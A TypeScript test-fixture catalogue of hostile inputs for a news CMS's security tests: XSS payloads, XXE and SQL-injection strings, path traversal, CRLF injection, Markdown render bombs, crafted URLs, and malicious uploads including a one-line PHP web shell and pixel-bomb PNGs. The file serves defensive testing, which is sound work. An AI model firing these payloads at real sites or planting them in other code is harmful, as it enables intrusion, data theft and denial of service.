// The hostile-input catalogue (issue #8 §5): strings an outsider or a careless paste can put into any field, crafted
// URLs, and uploads. Shared by the DAL-level suite (lib/dal/hostile-suite.ts, both engines) and the e2e specs
// (e2e/hostile-*.spec.ts). Every entry has a unique name; a payload that would run script sets `window.__pwned`
// (or opens a dialog), so a browser visit can tell that it executed.
//
// Keep this file free of Playwright and Node imports: Vitest imports it too.

export type HostileFamily =
  | "script"
  | "xml"
  | "markdown"
  | "unicode"
  | "injection"
  | "escape"
  | "misc";

export interface HostileText {
  /** Unique, readable: shows in test titles and failure messages. */
  name: string;
  family: HostileFamily;
  value: string;
}

const PWN = "window.__pwned=true";

/** Text inputs that fit every field's length limit (the longest is under 60 characters only where noted). */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  // Script injection: raw HTML, event handlers, dangerous URL schemes, CSS, entities, parser confusion.
  { name: "script tag", family: "script", value: `<script>${PWN}</script>` },
  { name: "script tag upper-case with src", family: "script", value: `<SCRIPT SRC=//evil.test/x.js></SCRIPT>` },
  { name: "img onerror", family: "script", value: `<img src=x onerror="${PWN}">` },
  { name: "img onerror alert", family: "script", value: `<img src=x onerror=alert(1)>` },
  { name: "svg onload", family: "script", value: `<svg onload=${PWN}>` },
  { name: "svg with script", family: "script", value: `<svg><script>${PWN}</script></svg>` },
  { name: "iframe javascript src", family: "script", value: `<iframe src="javascript:${PWN}"></iframe>` },
  { name: "iframe srcdoc", family: "script", value: `<iframe srcdoc="<script>parent.__pwned=true</script>">` },
  { name: "body onload", family: "script", value: `<body onload=${PWN}>` },
  { name: "html anchor javascript href", family: "script", value: `<a href="javascript:${PWN}">click</a>` },
  { name: "markdown link javascript", family: "script", value: `[click](javascript:${PWN})` },
  { name: "markdown link mixed-case javascript", family: "script", value: `[click](JaVaScRiPt:${PWN})` },
  { name: "markdown link tab inside scheme", family: "script", value: `[click](java\tscript:${PWN})` },
  { name: "markdown link entity-encoded scheme", family: "script", value: `[click](&#106;avascript:${PWN})` },
  { name: "markdown image javascript src", family: "script", value: `![x](javascript:${PWN})` },
  { name: "markdown image attribute breakout", family: "script", value: `![x](x" onerror="${PWN})` },
  { name: "markdown link data html", family: "script", value: `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: "html anchor data url", family: "script", value: `<a href="data:text/html,<script>${PWN}</script>">x</a>` },
  { name: "markdown autolink javascript", family: "script", value: `<javascript:${PWN}>` },
  { name: "markdown reference link javascript", family: "script", value: `[link][x]\n\n[x]: javascript:${PWN}` },
  { name: "markdown link vbscript", family: "script", value: `[x](vbscript:msgbox(1))` },
  { name: "inline style javascript url", family: "script", value: `<div style="background:url(javascript:${PWN})">x</div>` },
  { name: "style element", family: "script", value: `<style>*{background:url("javascript:${PWN}")}</style>` },
  { name: "css expression", family: "script", value: `<p style="width:expression(alert(1))">x</p>` },
  { name: "link stylesheet javascript", family: "script", value: `<link rel=stylesheet href=javascript:${PWN}>` },
  { name: "object data javascript", family: "script", value: `<object data="javascript:${PWN}"></object>` },
  { name: "embed src javascript", family: "script", value: `<embed src="javascript:${PWN}">` },
  { name: "form action javascript", family: "script", value: `<form action="javascript:${PWN}"><button>x</button></form>` },
  { name: "input autofocus onfocus", family: "script", value: `<input autofocus onfocus=${PWN}>` },
  { name: "details ontoggle", family: "script", value: `<details open ontoggle=${PWN}>` },
  { name: "video source onerror", family: "script", value: `<video><source onerror="${PWN}"></video>` },
  { name: "unknown element onclick", family: "script", value: `<x onclick=${PWN}>click</x>` },
  { name: "mathml mutation xss", family: "script", value: `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>` },
  { name: "attribute breakout double quote", family: "script", value: `"><script>${PWN}</script>` },
  { name: "attribute breakout single quote", family: "script", value: `'><img src=x onerror=${PWN}>` },
  { name: "title breakout", family: "script", value: `</title><script>${PWN}</script>` },
  { name: "script breakout (JSON-LD)", family: "script", value: `</script><script>${PWN}</script>` },
  { name: "textarea breakout", family: "script", value: `</textarea><img src=x onerror=${PWN}>` },
  { name: "html comment hiding script", family: "script", value: `<!--<script>${PWN}</script>-->` },
  { name: "meta refresh javascript", family: "script", value: `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { name: "base href javascript", family: "script", value: `<base href="javascript:/">` },
  { name: "template injection", family: "script", value: `{{constructor.constructor('${PWN}')()}}` },
  { name: "template literal", family: "script", value: `\${${PWN}}` },
  { name: "entity-encoded handler", family: "script", value: `<img src=x onerror=&#x77;indow.__pwned=true>` },
  { name: "pre-escaped script", family: "script", value: `&lt;script&gt;${PWN}&lt;/script&gt;` },
  { name: "decimal-entity script", family: "script", value: `&#60;script&#62;${PWN}&#60;/script&#62;` },
  { name: "split script tag", family: "script", value: `<scr<script>ipt>${PWN}</scr</script>ipt>` },
  { name: "anchor leading-space javascript", family: "script", value: `<a href="  javascript:${PWN}">x</a>` },
  { name: "bare javascript url", family: "script", value: `javascript:${PWN}` },
  { name: "img src eval", family: "script", value: `<img src=x:alert(1) onerror=eval(src)>` },
  { name: "marquee onstart", family: "script", value: `<marquee onstart=${PWN}>x</marquee>` },
  { name: "noscript breakout", family: "script", value: `<noscript><p title="</noscript><img src=x onerror=${PWN}>">` },
  { name: "fullwidth script", family: "script", value: `＜script＞${PWN}＜/script＞` },

  // XML breakers: markup characters, CDATA ends, entities XML does not know, characters XML forbids.
  { name: "less-than", family: "xml", value: "Tom < Jerry" },
  { name: "lone less-than", family: "xml", value: "<" },
  { name: "ampersand", family: "xml", value: "Salt & Pepper" },
  { name: "lone ampersand", family: "xml", value: "&" },
  { name: "greater-than", family: "xml", value: "a > b" },
  { name: "double quote", family: "xml", value: `Say "cheese"` },
  { name: "single quote", family: "xml", value: "It's O'Brien's" },
  { name: "cdata end", family: "xml", value: "x]]>y" },
  { name: "cdata section", family: "xml", value: "<![CDATA[ x ]]>" },
  { name: "nested cdata end", family: "xml", value: "]]]]><![CDATA[>" },
  { name: "html-only entity nbsp", family: "xml", value: "a&nbsp;b" },
  { name: "escaped ampersand text", family: "xml", value: "&amp;&lt;&gt;&quot;" },
  { name: "numeric entity NUL", family: "xml", value: "a&#0;b" },
  { name: "numeric entity FFFE", family: "xml", value: "a&#xFFFE;b" },
  { name: "xml declaration", family: "xml", value: `<?xml version="1.0"?><x/>` },
  { name: "doctype entity", family: "xml", value: `<!DOCTYPE x [<!ENTITY a "b">]>&a;` },
  { name: "external entity", family: "xml", value: `<!ENTITY xxe SYSTEM "file:///etc/passwd">&xxe;` },
  { name: "processing instruction", family: "xml", value: "<?php echo 1; ?>" },
  { name: "mixed markup characters", family: "xml", value: `a < b & c > d "e" 'f'` },
  { name: "NUL", family: "xml", value: "before\u0000after" },
  { name: "control U+0001", family: "xml", value: "a\u0001b" },
  { name: "backspace U+0008", family: "xml", value: "a\u0008b" },
  { name: "vertical tab U+000B", family: "xml", value: "a\u000bb" },
  { name: "form feed U+000C", family: "xml", value: "a\u000cb" },
  { name: "escape U+001B", family: "xml", value: "a\u001b[31mred" },
  { name: "unit separator U+001F", family: "xml", value: "a\u001fb" },
  { name: "every C0 control", family: "xml", value: `C0:${Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join("")}:end` },
  { name: "DEL and C1 controls", family: "xml", value: "a\u007f\u0080\u0085\u009fb" },
  { name: "lone high surrogate", family: "xml", value: "a\ud800b" },
  { name: "lone low surrogate", family: "xml", value: "a\udfffb" },
  { name: "reversed surrogate pair", family: "xml", value: "a\udc00\ud800b" },
  { name: "noncharacter U+FFFE", family: "xml", value: "a\ufffeb" },
  { name: "noncharacter U+FFFF", family: "xml", value: "a\uffffb" },
  { name: "line and paragraph separators", family: "xml", value: "a\u2028b\u2029c" },
  { name: "carriage returns", family: "xml", value: "a\r\nb\rc" },

  // Unicode that tricks display, normalisation, slugs and length checks.
  { name: "right-to-left override", family: "unicode", value: "invoice\u202Efdp.exe" },
  { name: "bidi isolates", family: "unicode", value: "\u2066abc\u2069\u2067def\u2069" },
  { name: "zero-width characters", family: "unicode", value: "zero\u200Bwidth\u200C\u200Djoin\uFEFF" },
  { name: "only zero-width", family: "unicode", value: "\u200B\u200B\u200B" },
  { name: "byte order mark prefix", family: "unicode", value: "\uFEFFheadline" },
  { name: "emoji", family: "unicode", value: "Storm 🌀 hits 🏖️" },
  { name: "emoji ZWJ sequences", family: "unicode", value: "👩‍👩‍👧‍👦 🏳️‍🌈 🧑🏽‍🚀" },
  { name: "only emoji", family: "unicode", value: "🔥🔥🔥" },
  { name: "combining marks (zalgo)", family: "unicode", value: "Z̸̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊a̷̧̨̛̖̗̘̙̜̝̞̟̠l̶̡̢̛̗̘̙̜g̴̡̢o̵̧̨" },
  { name: "many combining marks on one letter", family: "unicode", value: `e${"\u0301".repeat(50)}` },
  { name: "astral mathematical letters", family: "unicode", value: "𝕳𝖊𝖆𝖉𝖑𝖎𝖓𝖊 𝟙𝟚𝟛" },
  { name: "CJK", family: "unicode", value: "東京で地震 速報" },
  { name: "Arabic", family: "unicode", value: "عاجل: عاصفة تضرب الساحل" },
  { name: "Hebrew with numbers", family: "unicode", value: "חדשות 2025 עדכון" },
  { name: "Devanagari", family: "unicode", value: "समाचार अपडेट" },
  { name: "Turkish dotted I", family: "unicode", value: "İSTANBUL ıı" },
  { name: "German sharp s", family: "unicode", value: "Straße STRASSE ẞ" },
  { name: "ligatures", family: "unicode", value: "ﬁnance ﬂood" },
  { name: "non-breaking spaces only", family: "unicode", value: "\u00a0\u00a0\u00a0" },
  { name: "exotic spaces", family: "unicode", value: "a\u2000b\u3000c\u180ed" },
  { name: "private use and tag characters", family: "unicode", value: "a\uF8FF\u{E0001}\u{E0041}b" },
  { name: "variation selectors", family: "unicode", value: "✈︎ ✈️ ❤︎" },
  { name: "homoglyph domain", family: "unicode", value: "раураl.com (Cyrillic)" },

  // SQL-ish, search-syntax and path-traversal text.
  { name: "sql tautology", family: "injection", value: "' OR '1'='1" },
  { name: "sql drop table", family: "injection", value: `'; DROP TABLE "Article"; --` },
  { name: "sql double-quote tautology", family: "injection", value: `" OR ""="` },
  { name: "sql like wildcard", family: "injection", value: "%' AND 1=1 --" },
  { name: "sql union", family: "injection", value: `x' UNION SELECT "passwordHash" FROM "User" --` },
  { name: "sql sleep", family: "injection", value: "1; SELECT pg_sleep(5); --" },
  { name: "backslash quote", family: "injection", value: "\\' \\\" \\\\" },
  { name: "like wildcards", family: "injection", value: "100% _done_ %%" },
  { name: "fts unclosed quote", family: "injection", value: `"unclosed phrase` },
  { name: "fts operators", family: "injection", value: "NEAR(a b) OR * AND NOT" },
  { name: "tsquery operators", family: "injection", value: "a:* & !b | (c <-> d)" },
  { name: "fts column filter", family: "injection", value: "headline:secret body:*" },
  { name: "unbalanced parentheses", family: "injection", value: "((((a" },
  { name: "path traversal", family: "injection", value: "../../../../etc/passwd" },
  { name: "windows path traversal", family: "injection", value: "..\\..\\windows\\win.ini" },
  { name: "encoded traversal", family: "injection", value: "%2e%2e%2f%2e%2e%2fetc%2fpasswd" },
  { name: "double-encoded traversal", family: "injection", value: "%252e%252e%252f" },
  { name: "file url", family: "injection", value: "file:///etc/passwd" },
  { name: "UNC path", family: "injection", value: "\\\\server\\share\\x" },
  { name: "header injection CRLF", family: "injection", value: "x\r\nSet-Cookie: pwned=1" },
  { name: "server action id lookalike", family: "injection", value: "$ACTION_ID_0123456789abcdef" },
  { name: "react flight reference", family: "injection", value: "$@1" },
  { name: "prototype pollution key", family: "injection", value: "__proto__" },
  { name: "constructor prototype", family: "injection", value: "constructor.prototype" },

  // Malformed and tricky percent-escapes as text (the URL spec has its own list below).
  { name: "lone percent", family: "escape", value: "%" },
  { name: "invalid UTF-8 escape", family: "escape", value: "%ff%fe" },
  { name: "truncated escape", family: "escape", value: "%E0%A4%A" },
  { name: "overlong slash", family: "escape", value: "%c0%af" },
  { name: "percent-u escape", family: "escape", value: "%u0041" },
  { name: "escaped NUL", family: "escape", value: "%00" },
  { name: "non-hex escape", family: "escape", value: "%zz%g1" },
  { name: "escaped surrogate", family: "escape", value: "%ED%A0%80" },

  // Everything else: format strings, replacement patterns, JavaScript-ish names, whitespace.
  { name: "printf format", family: "misc", value: "%s%s%s%n%x" },
  { name: "replacement patterns", family: "misc", value: "$& $1 $$ $` $'" },
  { name: "braces format", family: "misc", value: "{0} {name} {{x}}" },
  { name: "null word", family: "misc", value: "null" },
  { name: "undefined word", family: "misc", value: "undefined" },
  { name: "object toString", family: "misc", value: "[object Object]" },
  { name: "huge number", family: "misc", value: "1e309 -0 NaN Infinity" },
  { name: "json object", family: "misc", value: `{"a":1,"__proto__":{"x":1}}` },
  { name: "only spaces", family: "misc", value: "     " },
  { name: "only newlines", family: "misc", value: "\n\n\n" },
  { name: "tabs", family: "misc", value: "\ta\tb\t" },
  { name: "empty", family: "misc", value: "" },
  { name: "long word without spaces", family: "misc", value: "W".repeat(59) },
  { name: "markdown heading and rule", family: "misc", value: "# H1\n---\n===" },
  { name: "markdown html block", family: "misc", value: "<div>\n\n*x*\n\n</div>" },
];

/** Bodies meant to make the Markdown renderer work hard: each must be refused or rendered quickly, never a 5xx. */
export const MARKDOWN_BOMBS: readonly HostileText[] = [
  { name: "5,000 nested block quotes", family: "markdown", value: `${">".repeat(5000)} deep` },
  { name: "2,000 nested block quotes with spaces", family: "markdown", value: `${"> ".repeat(2000)}deep` },
  { name: "1,000 nested list items", family: "markdown", value: Array.from({ length: 1000 }, (_, i) => `${"  ".repeat(i)}- item`).join("\n") },
  { name: "3,000 nested list markers on one line", family: "markdown", value: `${"- ".repeat(3000)}x` },
  { name: "5,000 open brackets", family: "markdown", value: "[".repeat(5000) },
  { name: "3,000 nested links", family: "markdown", value: `${"[a](".repeat(3000)}x${")".repeat(3000)}` },
  { name: "4,000 *_ run", family: "markdown", value: "*_".repeat(2000) },
  { name: "4,000 unmatched emphasis openers", family: "markdown", value: "*a ".repeat(1300) },
  { name: "3,000 nested html divs", family: "markdown", value: `${"<div>".repeat(3000)}x${"</div>".repeat(3000)}` },
  { name: "5,000 backticks", family: "markdown", value: "`".repeat(5000) },
  { name: "table with 1,000 columns", family: "markdown", value: `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${"|1".repeat(1000)}|` },
  { name: "2,000 reference definitions", family: "markdown", value: Array.from({ length: 2000 }, (_, i) => `[r${i}]: /x${i}`).join("\n") + "\n\n[r1] [r1999]" },
  { name: "2,000 footnotes", family: "markdown", value: Array.from({ length: 2000 }, (_, i) => `x[^${i}]`).join(" ") + "\n\n" + Array.from({ length: 2000 }, (_, i) => `[^${i}]: n${i}`).join("\n") },
];

/** A bigger emphasis bomb for the DAL suite's render-time check (40 KB took 15 s before issue #8). */
export const SLOW_MARKDOWN_BOMB: HostileText = { name: "16,000 *_ run", family: "markdown", value: "*_".repeat(8000) };

/** Every text input's name must be unique: test titles and reports depend on it. */
export function assertUniqueNames(list: readonly { name: string }[]): void {
  const seen = new Set<string>();
  for (const { name } of list) {
    if (seen.has(name)) throw new Error(`duplicate hostile input name: ${name}`);
    seen.add(name);
  }
}

/** One character over each field's limit (limits from lib/validation). */
export const OVER_LIMIT = {
  headline: 301,
  standfirst: 601,
  body: 200_001,
  tag: 61,
  seoTitle: 121,
  seoDescription: 301,
  sectionName: 61,
  sectionDescription: 301,
  tagName: 61,
  bylineName: 121,
  bylineBio: 2001,
  siteName: 81,
  siteDescription: 301,
  publisherDescription: 2001,
  copyright: 201,
  alt: 301,
  caption: 1001,
  credit: 201,
} as const;

/**
 * A string of exactly `length` UTF-16 units that is itself hostile (markup repeated, then padded). No control
 * characters: actions strip those before validating, which would bring it back under the limit.
 */
export function hostileOfLength(length: number): string {
  const unit = `<b>&]]>\u202e`;
  return unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
}

/** Crafted path segments, each tried in every dynamic reader route. */
export const HOSTILE_SEGMENTS: readonly { name: string; segment: string }[] = [
  { name: "lone percent", segment: "%" },
  { name: "invalid UTF-8 %ff", segment: "%ff" },
  { name: "truncated %E0%A4%A", segment: "%E0%A4%A" },
  { name: "overlong %c0%af", segment: "%c0%af" },
  { name: "non-hex %zz", segment: "%zz" },
  { name: "escaped surrogate %ED%A0%80", segment: "%ED%A0%80" },
  { name: "escaped NUL", segment: "a%00b" },
  { name: "encoded traversal", segment: "%2e%2e%2f%2e%2e%2fetc%2fpasswd" },
  { name: "encoded backslash traversal", segment: "..%5c..%5cwin.ini" },
  { name: "double-encoded traversal", segment: "%252e%252e%252f" },
  { name: "encoded script", segment: "%3Cscript%3Ewindow.__pwned%3Dtrue%3C%2Fscript%3E" },
  { name: "encoded quote breakout", segment: "%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" },
  { name: "sql tautology", segment: "'%20OR%20'1'%3D'1" },
  { name: "very long slug", segment: "a".repeat(3000) },
  { name: "unicode slug", segment: encodeURIComponent("東京-🌀") },
  { name: "RTL override", segment: encodeURIComponent("a\u202Eb") },
  { name: "upper-case slug", segment: "NOT-A-SLUG" },
  { name: "encoded newline", segment: "a%0d%0aSet-Cookie:%20x=1" },
  { name: "semicolon matrix params", segment: "a;jsessionid=1" },
  { name: "percent-u", segment: "%u0041" },
];

/** Dynamic reader routes; `{}` is replaced by a hostile segment. */
export const SEGMENT_ROUTES: readonly string[] = [
  "/articles/{}",
  "/sections/{}",
  "/tags/{}",
  "/authors/{}",
  "/media/{}",
  "/feeds/sections/{}/rss.xml",
  "/feeds/authors/{}/atom.xml",
  "/sitemaps/{}",
  "/articles/{}/opengraph-image",
  "/preview/{}",
];

/** Whole crafted URLs that are not one segment in a route. */
export const HOSTILE_URLS: readonly { name: string; path: string }[] = [
  { name: "raw traversal to passwd", path: "/media/../../../../etc/passwd" },
  { name: "encoded traversal in media", path: "/media/%2e%2e/%2e%2e/%2e%2e/etc/passwd" },
  { name: "deep media key", path: "/media/a/b/c/d/e/f/g/h" },
  { name: "dot segments in article", path: "/articles/./../articles/x" },
  { name: "double slash", path: "/articles//x//" },
  { name: "page param script", path: "/sections/world?page=%3Cscript%3E" },
  { name: "page param huge", path: "/sections/world?page=99999999999999999999999" },
  { name: "page param negative zero", path: "/tags/mexico?page=-0" },
  { name: "page param array", path: "/authors/breakingon-newsroom?page[]=1" },
  { name: "malformed query escape", path: "/?q=%ff&x=%" },
  { name: "query with NUL", path: "/sections/world?page=1%00" },
  { name: "very long query", path: `/?x=${"a".repeat(6000)}` },
  { name: "many query params", path: `/?${Array.from({ length: 500 }, (_, i) => `p${i}=${i}`).join("&")}` },
  { name: "admin story list bad filters", path: "/admin/stories?status=%ff&sort=%3Cx%3E&page=-1&q=%25" },
  { name: "admin media bad query", path: "/admin/media?q=%ff&page=1e9" },
  { name: "admin tags bad query", path: "/admin/tags?q=%3Cscript%3E&page=NaN" },
  { name: "admin audit bad filters", path: "/admin/audit?actor=%ff&action=%3Cx%3E&page=%00" },
  { name: "admin unknown story id", path: "/admin/stories/%ff" },
  { name: "admin story history traversal", path: "/admin/stories/..%2f..%2fsettings/history" },
  { name: "admin media unknown id", path: "/admin/media/%3Cscript%3E" },
  { name: "admin tags unknown id", path: "/admin/tags/%ff" },
  { name: "admin sections unknown id", path: "/admin/sections/'%20OR%201=1" },
  { name: "admin bylines unknown id", path: "/admin/bylines/%00" },
  { name: "preview api bad id", path: "/api/preview?id=%ff" },
  { name: "preview api missing id", path: "/api/preview" },
  { name: "login callback look-alike host", path: "/admin/login?callbackUrl=https%3A%2F%2F127.0.0.1.evil.test%2F" },
  { name: "login callback javascript", path: "/admin/login?callbackUrl=javascript%3Aalert(1)" },
  { name: "login error param script", path: "/admin/login?error=%3Cscript%3Ealert(1)%3C%2Fscript%3E" },
  { name: "auth callback credentials GET", path: "/api/auth/callback/credentials" },
  { name: "auth unknown provider", path: "/api/auth/signin/%ff" },
];

/** Search queries (/search?q=…), each also shown back to the reader on the results page. */
export const HOSTILE_QUERIES: readonly { name: string; q: string }[] = [
  ...HOSTILE_TEXTS.filter((t) => ["script", "injection", "escape"].includes(t.family) || t.name === "NUL" || t.name === "lone high surrogate").map((t) => ({ name: t.name, q: t.value })),
  { name: "very long query", q: "storm ".repeat(400) },
  { name: "many terms", q: Array.from({ length: 300 }, (_, i) => `w${i}`).join(" OR ") },
];

/**
 * encodeURIComponent, except that a lone surrogate (which it refuses) is sent as the bytes a careless client would
 * send for it: CESU-8, e.g. %ED%A0%80. A crafted link can carry anything.
 */
export function encodeHostile(value: string): string {
  return value
    .split(/([\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff])/)
    .map((part) => {
      if (part.length === 1 && /[\ud800-\udfff]/.test(part)) {
        const code = part.charCodeAt(0);
        return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join("");
      }
      return encodeURIComponent(part);
    })
    .join("");
}

/** Upload cases: a file name and bytes; `accept` says whether a careful server may take it as an image. */
export interface HostileUpload {
  name: string;
  filename: string;
  mimeType: string;
  bytes: Uint8Array;
  /** Expected outcome: "refuse" must not store anything; "either" may store it (under a safe name) or refuse it. */
  expect: "refuse" | "either";
}

// The smallest valid PNG (1×1, transparent), used wherever a real image is needed.
export const TINY_PNG = Uint8Array.from(
  Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg==", "base64"),
);

/** A 74-byte-class PNG whose header declares 40,000,000 × 1 pixels (issue #8 §3, "Images"). */
export function pngDeclaring(width: number, height: number): Uint8Array {
  const png = Buffer.from(TINY_PNG);
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  // The IHDR CRC is left wrong on purpose for some decoders; a correct one is computed for the rest.
  const crc = crc32(png.subarray(12, 29));
  png.writeUInt32BE(crc, 29);
  return Uint8Array.from(png);
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

const text = (s: string) => Uint8Array.from(Buffer.from(s, "utf8"));

export const HOSTILE_UPLOADS: readonly HostileUpload[] = [
  { name: "script file name", filename: `<img src=x onerror=${PWN}>.png`, mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "traversal file name", filename: "../../../../etc/passwd.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "windows traversal file name", filename: "..\\..\\boot.ini.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "NUL in file name", filename: "photo\u0000.php.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "control characters in file name", filename: "a\u0001\u001b[31m\r\nb.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "RTL override file name", filename: "photo\u202Egnp.exe", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "XML breaker file name", filename: `a<b>&"c']]>.png`, mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "very long file name", filename: `${"n".repeat(1000)}.png`, mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "emoji file name", filename: "🌀 storm 🏖️.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "percent escapes in file name", filename: "%ff%2e%2e%2f.png", mimeType: "image/png", bytes: TINY_PNG, expect: "either" },
  { name: "html file with png name", filename: "page.png", mimeType: "image/png", bytes: text(`<html><script>${PWN}</script></html>`), expect: "refuse" },
  { name: "svg with script", filename: "vector.svg", mimeType: "image/svg+xml", bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"><script>${PWN}</script></svg>`), expect: "refuse" },
  { name: "svg named png", filename: "vector.png", mimeType: "image/png", bytes: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PWN}"/>`), expect: "refuse" },
  { name: "html declared as html", filename: "x.html", mimeType: "text/html", bytes: text(`<script>${PWN}</script>`), expect: "refuse" },
  { name: "php script", filename: "shell.php", mimeType: "application/x-php", bytes: text("<?php system($_GET['c']); ?>"), expect: "refuse" },
  { name: "truncated png", filename: "cut.png", mimeType: "image/png", bytes: TINY_PNG.slice(0, 30), expect: "refuse" },
  { name: "png magic only", filename: "magic.png", mimeType: "image/png", bytes: TINY_PNG.slice(0, 8), expect: "refuse" },
  { name: "random bytes", filename: "noise.jpg", mimeType: "image/jpeg", bytes: Uint8Array.from({ length: 512 }, (_, i) => (i * 7919) % 256), expect: "refuse" },
  { name: "jpeg magic then garbage", filename: "bad.jpg", mimeType: "image/jpeg", bytes: Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, ...Array.from({ length: 64 }, () => 0x41)]), expect: "refuse" },
  { name: "gif (not accepted)", filename: "anim.gif", mimeType: "image/gif", bytes: Uint8Array.from(Buffer.from("R0lGODlhAQABAAAAACw=", "base64")), expect: "refuse" },
  { name: "pixel bomb 40,000,000 x 1", filename: "bomb.png", mimeType: "image/png", bytes: pngDeclaring(40_000_000, 1), expect: "refuse" },
  { name: "pixel bomb 60,000 x 60,000", filename: "square-bomb.png", mimeType: "image/png", bytes: pngDeclaring(60_000, 60_000), expect: "refuse" },
  { name: "zero-byte file", filename: "empty.png", mimeType: "image/png", bytes: new Uint8Array(0), expect: "refuse" },
  { name: "png with trailing html", filename: "polyglot.png", mimeType: "image/png", bytes: Uint8Array.from([...TINY_PNG, ...text(`<script>${PWN}</script>`)]), expect: "either" },
];
